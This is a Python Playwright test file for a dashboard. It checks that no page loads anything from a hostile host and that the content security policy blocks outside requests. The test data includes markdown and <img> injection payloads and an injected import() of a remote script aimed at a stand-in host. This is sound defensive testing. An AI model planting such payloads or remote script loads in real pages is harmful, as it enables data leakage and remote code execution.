"""The dashboard in a real Chromium, with links and a network full of markup: no page asks another host for anything."""

from collections.abc import Iterator
from urllib.parse import urlencode

import pytest
from playwright.sync_api import Browser, expect

from bench.stand_in import Cluster
from c3dvis.networks import registry
from tests.ui.conftest import Server, dashboard
from tests.ui.hostile_text import HOST
from tests.ui.test_plain_text import hostile_network
from tests.visit import visiting

IMAGE = f"![zq](http://{HOST}/a.png)"
LINK = urlencode({"seed": IMAGE, "layer": f"[zq](https://{HOST})", "engine": f"<img src=http://{HOST}/b.png>"})
PAGES = ("explore", "gallery", "compare", "network", "status", "method")


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    folder = tmp_path_factory.mktemp("outside")
    hostile_network(folder / "weights")
    with dashboard(folder, folder / "weights", workers=Cluster(1)) as running:
        yield running


@pytest.mark.parametrize("name", PAGES)
def test_no_request_leaves_the_host(name: str, browser: Browser, server: Server) -> None:
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("C3DVIS_WEIGHTS_DIR", str(server.log.parent / "weights"))
        layers = registry.describe("zq").layers
    own = urlencode({"network": "zq", "layer": layers[1]})
    queries = [urlencode({"pin": query}) for query in (LINK, own)] if name == "compare" else [LINK, own]
    with visiting(browser, server.url) as visit:
        for query in queries:
            visit.page.goto(f"{server.url}/{name}?{query}")
            expect(visit.page.get_by_test_id("stMainBlockContainer").locator("h3, h1").first).to_be_visible()
            expect(visit.page.get_by_test_id("stApp")).to_have_attribute("data-test-script-state", "notRunning")
            if name in ("explore", "network"):
                visit.page.get_by_role("combobox", name="Network", exact=True).click()
                expect(visit.page.get_by_role("option", name="C3D")).to_be_visible()
            assert visit.page.locator(f"[src*='//{HOST}'], [href*='//{HOST}'], [href*='@{HOST}']").count() == 0


@pytest.mark.parametrize("name", PAGES)
def test_the_policy_stops_what_would_leave_the_host(name: str, browser: Browser, server: Server) -> None:
    with browser.new_context() as context:
        page = context.new_page()
        answers: list[str] = []
        page.on("response", lambda response: answers.append(response.url))
        page.goto(f"{server.url}/{name}")
        expect(page.get_by_test_id("stMainBlockContainer")).to_be_attached()
        blocked = page.evaluate(
            """async host => {
              const stopped = [];
              document.addEventListener('securitypolicyviolation', event => stopped.push(event.effectiveDirective));
              const image = new Image();
              image.src = `http://${host}/a.png`;
              await fetch(`http://${host}/`).catch(() => {});
              for (const text of ['window.ran = true', `import('http://${host}/x.js')`]) {
                const script = document.createElement('script');
                script.textContent = text;
                document.body.append(script);
              }
              await new Promise(resolve => setTimeout(resolve));
              return [...stopped, window.ran === true];
            }""",
            HOST,
        )
    assert sorted(map(str, blocked)) == ["False", "connect-src", "img-src", "script-src-elem", "script-src-elem"]
    assert not [url for url in answers if HOST in url]
